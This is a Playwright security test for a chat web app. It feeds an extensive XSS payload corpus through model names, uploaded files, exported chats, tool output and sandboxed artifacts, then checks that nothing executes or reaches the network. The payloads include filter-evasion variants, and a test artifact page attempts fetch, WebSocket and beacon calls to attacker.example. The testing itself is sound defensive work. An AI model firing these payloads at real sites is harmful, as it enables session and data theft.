import { expect, test } from '@playwright/test';
import { type FilePart, sessionFile } from './archive';
import { registerUser, watchProblems } from './support';

const ELSEWHERE = 'https://attacker.example';

/** What would run, or fetch, if it were not taken for what it is: text. */
const CORPUS = [
  '<script>steal()</script>',
  '<img src=x onerror=steal()>',
  `<img src="${ELSEWHERE}/pixel.png">`,
  '<svg onload=steal()><script>steal()</script></svg>',
  `<iframe src="javascript:parent.steal()"></iframe><iframe src="${ELSEWHERE}"></iframe>`,
  `<link rel=stylesheet href="${ELSEWHERE}/a.css"><style>@import "${ELSEWHERE}/b.css";</style>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><input autofocus onfocus=steal()><button>x</button></form>`,
  `<body onload=steal()><base href="${ELSEWHERE}/">`,
  '<details open ontoggle=steal()><video><source onerror=steal()></video></details>',
  '<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>',
  '[a](javascript:steal()) [b](data:text/html,<script>steal()</script>) [c](vbscript:steal())',
  `![pixel](${ELSEWHERE}/p.png) ![x](x"onerror="steal()) <javascript:steal()>`,
  '[a](&#106;avascript:steal()) [b](java\tscript:steal()) [c](JaVaScRiPt:steal())',
  `"><img src=x onerror=steal()> '-steal()-' \${steal()} {{steal()}} \`\${steal()}\``,
  '$\\href{javascript:steal()}{x}$ $\\htmlData{x=y}{\\includegraphics{x}}$',
  `[1]: ${ELSEWHERE} "x\n\n[^1]: <img src=x onerror=steal()>\n\nFoot[^1]`,
  '```html"><img src=x onerror=steal()>\n<script>steal()</script>\n```',
  '\u202e<script>steal()</script>\u0000<scr\u0000ipt>steal()</scr\u0000ipt>',
];
const ALL = CORPUS.join('\n\n');
const NAME = '"><img src=x onerror=steal()><script>steal()</script>';

/** A page that tries to reach the one around it, and the network. */
const PAGE = `<!doctype html>
<title>Artifact ${NAME}</title>
<script>
  const attempts = [
    () => { parent.document.title = 'reached'; },
    () => parent.steal(),
    () => parent.localStorage.clear(),
    () => { top.location = '${ELSEWHERE}/top'; },
    () => open('${ELSEWHERE}/window'),
    () => alert('hello'),
    () => fetch('${ELSEWHERE}/fetch').catch(() => {}),
    () => fetch('/api/v1/auth/me', { credentials: 'include' }).catch(() => {}),
    () => { new Image().src = '${ELSEWHERE}/image'; },
    () => new WebSocket('wss://attacker.example/socket'),
    () => navigator.sendBeacon('${ELSEWHERE}/beacon'),
  ];
  for (const attempt of attempts) try { attempt(); } catch {}
</script>
<img src="${ELSEWHERE}/i.png" onerror="parent.steal()">
<iframe src="${ELSEWHERE}/frame"></iframe>
<p>The artifact is shown.</p>`;
/** A page that leaves for another site. */
const LEAVING = `<!doctype html>
<title>Leaving</title>
<meta http-equiv=refresh content="0;url=${ELSEWHERE}/refresh">
<script>location = '${ELSEWHERE}/here';</script>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="steal()">
<script>steal()</script>
<image href="${ELSEWHERE}/svg.png"/>
</svg>`;

const text = (words: string): FilePart => ({ type: 'text', text: words });
const FIRST = '0198f000-0000-7000-8000-0000000000e1';
const SECOND = '0198f000-0000-7000-8000-0000000000e2';
const ANSWER: FilePart[] = [
  { type: 'reasoning', text: ALL },
  { type: 'tool_call', call_id: FIRST, tool_name: 'lookup', input: { query: ALL } },
  { type: 'tool_result', call_id: FIRST, tool_name: 'lookup', status: 'success', output: ALL },
  { type: 'tool_call', call_id: SECOND, tool_name: 'lookup', input: {} },
  {
    type: 'tool_result',
    call_id: SECOND,
    tool_name: 'lookup',
    status: 'error',
    error: ALL,
  },
  text(ALL),
  text(
    `\`\`\`html\n${PAGE}\n\`\`\`\n\n\`\`\`html\n${LEAVING}\n\`\`\`\n\n\`\`\`svg\n${SVG}\n\`\`\`\n\n\`\`\`csv\n${NAME},b\n1,2\n3,4\n5,6\n7,8\n\`\`\``,
  ),
];

test('nothing that others have written runs, or is fetched', async ({ page }) => {
  const problems = watchProblems(page);
  const fetched: string[] = [];
  await page.context().route(`${ELSEWHERE}/**`, (route) => {
    fetched.push(route.request().url());
    return route.abort();
  });
  const ran: string[] = [];
  page.on('dialog', (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('popup', (popup) => ran.push(popup.url()));
  await page.exposeFunction('steal', () => ran.push('a script ran'));
  await page.route('**/api/v1/models', async (route) => {
    const response = await route.fetch();
    const { items } = await response.json();
    const named = items.map((model: object) => ({ ...model, name: NAME }));
    await route.fulfill({ response, json: { items: named } });
  });
  await registerUser(page);

  const opened = await page.goto('/');
  const policy = opened?.headers()['content-security-policy'] ?? '';
  expect(policy).toMatch(/script-src 'self'(;|$)/);
  expect(policy).not.toMatch(/script-src[^;]*unsafe/);
  await page.getByRole('button', { name: /^Model:/ }).click();
  await expect(page.getByRole('option', { name: NAME }).first()).toBeVisible();
  await page.keyboard.press('Escape');

  await page.getByLabel('Files to attach').setInputFiles({
    name: `${NAME}.csv`,
    mimeType: 'text/csv',
    buffer: Buffer.from(`${NAME},b\n1,2`),
  });
  await expect(page.getByRole('list', { name: 'Attached files' })).toContainText('onerror');

  const file = sessionFile(NAME, [[text(ALL)], ANSWER]);
  await page.getByLabel('Exported chats').setInputFiles(file);
  await expect(page).toHaveURL(/\/sessions\//);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(NAME);
  const answer = page.getByRole('article', { name: 'Coda' });
  await answer.getByRole('button', { name: 'Reasoning' }).click();
  await answer.getByRole('button', { name: /^Used lookup 2 times/ }).click();
  for (const call of await answer.locator('[data-tool]').all()) {
    await call.getByRole('button', { expanded: false }).first().click();
    await expect(call.locator('pre').last()).toContainText('steal()');
  }
  await expect(answer).toContainText('<img src=x onerror=steal()>');

  expect(problems).toEqual([]);

  await page.getByRole('button', { name: 'Artifacts' }).click();
  const artifacts = page.getByRole('combobox', { name: 'Artifact' });
  const options = page.getByRole('option');
  await artifacts.click();
  const count = await options.count();
  expect(count).toBeGreaterThan(3);
  // The first one is the last to be shown.
  for (let index = count - 1; index >= 0; index -= 1) {
    await options.nth(index).click();
    await expect(options).toHaveCount(0);
    if (index > 0) await artifacts.click();
  }
  const frame = page.frameLocator('iframe');
  await expect(frame.getByText('The artifact is shown.')).toBeVisible();
  expect(await frame.locator('html').evaluate(() => self.origin)).toBe('null');

  await page.getByRole('button', { name: /^More about/ }).click();
  await page.getByRole('menuitem', { name: 'Rename' }).click();
  await expect(page.getByRole('textbox', { name: 'Title' })).toHaveValue(NAME);
  await page.keyboard.press('Escape');
  await page.getByRole('searchbox').fill('steal');
  await expect(page.getByRole('navigation', { name: 'Chats' }).getByRole('link')).toContainText(
    'steal',
  );

  expect(ran).toEqual([]);
  expect(fetched).toEqual([]);
  expect(page.url()).toMatch(/\/sessions\//);
  expect(await page.title()).not.toContain('reached');
  expect(await page.evaluate(() => localStorage.length)).toBeGreaterThan(0);
});
